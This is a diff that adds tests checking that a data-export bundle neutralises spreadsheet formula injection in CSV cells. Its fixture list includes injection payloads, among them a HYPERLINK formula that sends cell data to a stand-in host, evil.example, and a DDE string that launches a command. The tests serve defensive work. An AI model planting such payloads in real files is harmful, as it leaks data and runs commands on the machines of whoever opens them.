@@ -8,6 +8,7 @@ import csv
 import html
 import io
 import json
+import re
 import zipfile
 from datetime import UTC, datetime, timedelta
 from typing import Any
@@ -22,6 +23,7 @@ from pledge.subjects.service import FieldInput, NewInteraction
 
 COUNT = 1_500  # enough for a JSON document over the size deflated on the worker thread
 START = datetime(2025, 1, 1, tzinfo=UTC)
+CATEGORY = "user.content.private"
 
 
 def _payload(n: int) -> dict[str, Any]:
@@ -110,3 +112,83 @@ def test_the_page_rows_escape_every_cell(rows: list[tuple[str, str, str]]) -> No
         for a, b, c in rows
     )
     assert str(bundle._table_rows(rows)) == expected
+
+
+# Cells a spreadsheet would run as a formula are written with a leading `'`; numbers and
+# phone numbers stay as given (`bundle.spreadsheet_safe`).
+_FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "+SUM(1,2)",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "-",
+    "+",
+]
+_PLAIN = [
+    "+44 7700 900123",
+    "-12.5",
+    "+1 (555) 010-0199",
+    "42",
+    "1,000.50",
+    "Mia",
+    "mia@example.com",
+    "a=b",
+    "",
+    '{"n": -1}',
+]
+
+
+def test_formula_cells_are_prefixed_and_numbers_kept() -> None:
+    assert [bundle.spreadsheet_safe(v) for v in _FORMULAS] == ["'" + v for v in _FORMULAS]
+    assert [bundle.spreadsheet_safe(v) for v in _PLAIN] == _PLAIN
+
+
+def test_the_bundle_csv_files_hold_no_formula(runtime: Runtime, tenant: str) -> None:
+    values = _FORMULAS[:4] + _PLAIN[:3]
+    with runtime.tenant_context(tenant) as ctx:
+        sid = subjects.create_subject(
+            ctx,
+            [FieldInput("email", "sheet@example.com")]
+            + [FieldInput(f"note_{n}", v, category=CATEGORY) for n, v in enumerate(values)],
+        )
+        subjects.store_interactions(ctx, [NewInteraction(sid, "note", START, CATEGORY, {"n": -1})])
+    with runtime.tenant_context(tenant) as ctx:
+        content = bundle.build(ctx, sid, "EU", reference="R-SHEET")
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        fields = list(csv.reader(io.StringIO(archive.read("fields.csv").decode())))
+        interactions = list(csv.reader(io.StringIO(archive.read("interactions.csv").decode())))
+    assert fields[0] == ["name", "value", "category", "source", "retention_class", "updated_at"]
+    written = {row[0]: row[1] for row in fields[1:]}
+    assert [written[f"note_{n}"] for n in range(len(values))] == (
+        ["'" + v for v in _FORMULAS[:4]] + _PLAIN[:3]
+    )
+    assert interactions[0][0] == "occurred_at"
+    assert interactions[1][1:] == ["note", CATEGORY, "direct", "standard", '{"n":-1}']
+
+
+_FORMULA_TEXT = st.one_of(
+    _TEXT,
+    st.tuples(st.sampled_from(["=", "+", "-", "@", "\t", "\r"]), _TEXT).map("".join),
+    st.from_regex(r"[+-]?[0-9][0-9 ().,/-]{0,15}", fullmatch=True),
+)
+
+
+@given(st.lists(st.lists(_FORMULA_TEXT, min_size=1, max_size=6), max_size=8))
+@example([["=1+1", "+44 7700 900123", "@x", "-12.5", "\t=1", "=cmd"]])
+def test_no_written_cell_starts_a_formula(rows: list[list[str]]) -> None:
+    header = ["h=1", "=not-data"]
+    written = list(csv.reader(io.StringIO(bundle._csv_table(header, rows).decode("utf-8"))))
+    assert written[0] == header  # the header is ours, written as is
+    assert len(written) == len(rows) + 1
+    for row, given_row in zip(written[1:], rows, strict=True):
+        for cell, original in zip(row, given_row, strict=True):
+            if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
+                # Only a plain number or phone number may start like a formula.
+                assert cell == original and re.fullmatch(r"[+-]?[0-9][0-9 ().,/-]*", cell)
+            else:
+                # Nothing is changed but for the prefix, and only on a would-be formula.
+                assert cell == original or (
+                    cell == "'" + original and original.startswith(("=", "+", "-", "@", "\t", "\r"))
+                )
